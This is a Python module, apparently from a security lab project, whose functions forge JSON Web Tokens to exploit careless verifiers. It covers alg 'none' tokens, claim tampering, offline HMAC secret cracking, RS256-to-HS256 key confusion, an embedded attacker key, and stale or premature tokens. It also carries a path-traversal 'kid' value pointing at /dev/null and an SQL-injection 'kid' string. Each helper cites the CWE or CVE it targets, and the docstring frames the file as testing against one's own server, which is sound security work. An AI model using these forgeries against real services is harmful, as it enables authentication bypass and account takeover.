"""Build the tokens a careless JWT verifier accepts.

Each helper makes one kind of forged token (or recovers a secret) and names the advisory
class it belongs to. Send the result with ``requests`` to a server you run yourself:

    token = tamper_claims(my_token, sub="admin")          # signature never checked
    token = forge_unsigned(as_user(claims, "admin"))       # alg "none"
    secret = crack_hs256(my_token)                         # weak HMAC secret
    token = alg_confusion_token(public_pem, claims)        # RS256 -> HS256 confusion

A string that is not a JWT raises MalformedTokenError with a one-line reason.
"""

from __future__ import annotations

import hmac
import json
import time
from collections.abc import Iterable
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

from authlab.weak import weak_secrets
from authlab.wire import (
    HMAC_HASHES,
    MalformedTokenError,
    b64url_encode,
    hmac_token,
    json_segment,
    public_key_pem,
    split_token,
)

#: a ``kid`` that walks out of a key directory to a file every Unix machine has, and whose content is empty
DEV_NULL_KID = "../../../../../../../../dev/null"

__all__ = ["DEV_NULL_KID", "MalformedTokenError", "alg_confusion_token", "as_user", "crack_hs256",
           "embedded_jwk_token", "expired_token", "forge_hs256", "forge_unsigned", "kid_injection_token",
           "not_yet_valid_token", "public_key_pem", "tamper_claims", "unverified"]


def unverified(token: str) -> tuple[dict, dict]:
    """The header and claims anyone can read: a JWT is signed, not encrypted."""
    header, claims, _, _ = split_token(token)
    return header, claims


def as_user(claims: dict, user: str = "admin", lifetime: int = 15 * 60) -> dict:
    """``claims`` rewritten for ``user``, freshly issued: the payload an attacker wants signed."""
    now = int(time.time())
    return {**claims, "sub": user, "iat": now, "exp": now + lifetime}


def tamper_claims(token: str, **changes: Any) -> str:
    """The same header and signature over changed claims. CWE-347.

    Only a server that never checks the signature (``verify_signature: False``, or
    ``jwt.decode`` used where ``verify`` was meant) accepts it.
    """
    _, claims, signing_input, signature = split_token(token)
    header_part = signing_input.decode().split(".")[0]
    return f"{header_part}.{json_segment({**claims, **changes})}.{b64url_encode(signature)}"


def forge_unsigned(claims: dict, alg: str = "none") -> str:
    """An unsecured JWT: ``{"alg": "none"}`` and an empty signature. CWE-347.

    Accepted by verifiers that let the token choose the algorithm: the 2015 disclosure
    (node-jsonwebtoken < 4.2.2, PyJWT < 1.0.0, …) and CVE-2022-23540 (jsonwebtoken <= 8.5.1).
    ``alg`` lets you try spellings such as ``"None"`` or ``"NONE"`` against case-sensitive filters.
    """
    return f'{json_segment({"alg": alg, "typ": "JWT"})}.{json_segment(claims)}.'


def crack_hs256(token: str, wordlist: Iterable[str | bytes] | None = None) -> str | None:
    """The HMAC secret of ``token`` if it is in ``wordlist`` (the shipped ``weak_secrets()``), else None.

    Offline: one captured token is enough, the server never sees a guess. The signing input
    is built once, then each word costs one HMAC. Works for HS256, HS384 and HS512.
    CWE-1391 (weak credentials), CWE-321 (hard-coded key).
    """
    header, _, signing_input, signature = split_token(token)
    digest = HMAC_HASHES.get(str(header.get("alg", "")).upper())
    if digest is None:
        raise ValueError(f"the token is signed with {header.get('alg')!r}, not HMAC: no shared secret to crack")
    for word in weak_secrets() if wordlist is None else wordlist:
        key = word.encode() if isinstance(word, str) else word
        if hmac.compare_digest(hmac.digest(key, signing_input, digest), signature):
            return word.decode() if isinstance(word, bytes) else word
    return None


def forge_hs256(claims: dict, secret: str | bytes, headers: dict | None = None) -> str:
    """A token signed HS256 with ``secret``: what a cracked secret lets anyone mint."""
    key = secret.encode() if isinstance(secret, str) else secret
    return hmac_token({"alg": "HS256", "typ": "JWT", **(headers or {})}, claims, key)


def alg_confusion_token(public_key: Any, claims: dict) -> str:
    """HS256 over ``claims`` keyed with the server's *public* key PEM. CWE-347.

    An RS256 service whose verifier takes the algorithm from the token uses the public key
    it holds as an HMAC secret, and the attacker has that key too (it is public).
    CVE-2015-9235 (node-jsonwebtoken), CVE-2016-10555 (jwt-simple), CVE-2017-11424 and
    CVE-2022-29217 (PyJWT, since fixed: it refuses a PEM or SSH public key as an HMAC secret).
    """
    return hmac_token({"alg": "HS256", "typ": "JWT"}, claims, public_key_pem(public_key))


def kid_injection_token(claims: dict, kid: str = DEV_NULL_KID, key: bytes = b"") -> str:
    """HS256 with a ``kid`` that points the server's key lookup at a key the attacker knows. CWE-22.

    The default walks a file-based key store to ``/dev/null``, whose content (the empty
    string) becomes the HMAC key. The same idea works on a SQL lookup (CWE-89):
    ``kid = "x' UNION SELECT 'known"`` with ``key=b"known"``.
    """
    return hmac_token({"alg": "HS256", "typ": "JWT", "kid": kid}, claims, key)


def embedded_jwk_token(claims: dict, private_key: rsa.RSAPrivateKey | None = None) -> str:
    """RS256 signed with the attacker's own key, whose public half rides in the ``jwk`` header.

    A verifier that trusts the embedded key verifies the token against the key the token
    brought. CVE-2018-0114 (node-jose); CWE-347.
    """
    private_key = private_key or rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private_key.public_key()))
    return jwt.encode(claims, private_key, algorithm="RS256", headers={"jwk": public_jwk, "kid": "attacker"})


def expired_token(claims: dict, key: Any, algorithm: str = "HS256", seconds_ago: int = 3600,
                  headers: dict | None = None) -> str:
    """A correctly signed token that expired ``seconds_ago`` (issued twice as long ago). CWE-613.

    Stands for a token captured long ago (a log line, a browser history); only a server
    that skips the ``exp`` check still accepts it. Pass the real token's ``typ`` in
    ``headers`` so that a server checking it refuses the token for its expiry alone.
    """
    now = int(time.time())
    return jwt.encode({**claims, "iat": now - 2 * seconds_ago, "exp": now - seconds_ago}, key, algorithm=algorithm,
                      headers=headers)


def not_yet_valid_token(claims: dict, key: Any, algorithm: str = "HS256", seconds_ahead: int = 3600,
                        headers: dict | None = None) -> str:
    """A correctly signed token whose ``nbf`` (not before) lies ``seconds_ahead`` in the future. CWE-613."""
    now = int(time.time())
    return jwt.encode({**claims, "iat": now, "nbf": now + seconds_ahead, "exp": now + 2 * seconds_ahead},
                      key, algorithm=algorithm, headers=headers)
